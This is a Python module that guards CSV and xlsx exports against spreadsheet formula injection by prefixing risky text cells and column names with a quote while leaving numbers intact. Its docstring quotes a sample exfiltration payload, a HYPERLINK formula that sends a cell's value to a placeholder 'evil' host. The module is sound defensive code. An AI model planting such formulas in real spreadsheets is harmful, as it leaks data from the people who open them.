"""Tables the tool writes (CSV, xlsx): cells that a spreadsheet would run as formulas are defused.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and a leading tab or carriage return can hide such a start. A site name such as
``=HYPERLINK("http://evil/?"&A1,"Ede")`` in an export would run on the statistician's
machine when the file is opened ("CSV injection"). OWASP's rule, applied here to every text
cell and every column name the tool writes: a text that starts with one of those characters
gets a single quote in front, so the program shows it as text. A value that is a number
(``-0.25``, ``+3``, ``1e-4``) is left alone, so negative numbers stay numbers.

:func:`neutralize_cell` is the rule; :func:`neutralize_frame` applies it to a table;
:func:`table_bytes` renders a table as CSV or xlsx with it applied, and :func:`write_table`
writes that safely (:mod:`participatie_rct.safe_files`). Every table writer uses these.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

from participatie_rct.errors import ParticipatieRCTError

if TYPE_CHECKING:
    import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def neutralize_cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet cell (OWASP's rule, see module docstring).

    >>> neutralize_cell('=HYPERLINK("http://x")')
    '\\'=HYPERLINK("http://x")'
    >>> neutralize_cell("-0.25"), neutralize_cell(-3), neutralize_cell("Ede")
    ('-0.25', -3, 'Ede')
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralize_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names follow :func:`neutralize_cell`.

    Numeric, boolean and date columns are left as they are; text (object, string and
    categorical) columns are neutralized cell by cell.
    """
    import pandas as pd

    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(neutralize_cell, na_action="ignore")
    out.columns = [neutralize_cell(str(c)) for c in out.columns]
    return out


def table_format(path: str | Path) -> str:
    """``xlsx`` for a name ending in ``.xlsx``, else ``csv``."""
    return "xlsx" if Path(path).suffix.lower() == ".xlsx" else "csv"


def table_bytes(frame: pd.DataFrame, kind: str = "csv") -> bytes:
    """``frame`` as the bytes of a CSV (``,``, UTF-8, ``\\n``) or xlsx file, neutralized."""
    safe = neutralize_frame(frame)
    if kind == "csv":
        buffer = io.StringIO()
        safe.to_csv(buffer, index=False, lineterminator="\n")
        return buffer.getvalue().encode("utf-8")
    if kind == "xlsx":
        binary = io.BytesIO()
        safe.to_excel(binary, index=False, engine="openpyxl")
        return binary.getvalue()
    raise ParticipatieRCTError(f"table format {kind!r}: choose csv or xlsx.")


def write_table(frame: pd.DataFrame, path: str | Path, *, overwrite: bool = True) -> Path:
    """Write ``frame`` to ``path`` (CSV or xlsx by suffix), neutralized, through a safe write."""
    from participatie_rct.safe_files import write_bytes

    return write_bytes(path, table_bytes(frame, table_format(path)), overwrite=overwrite)
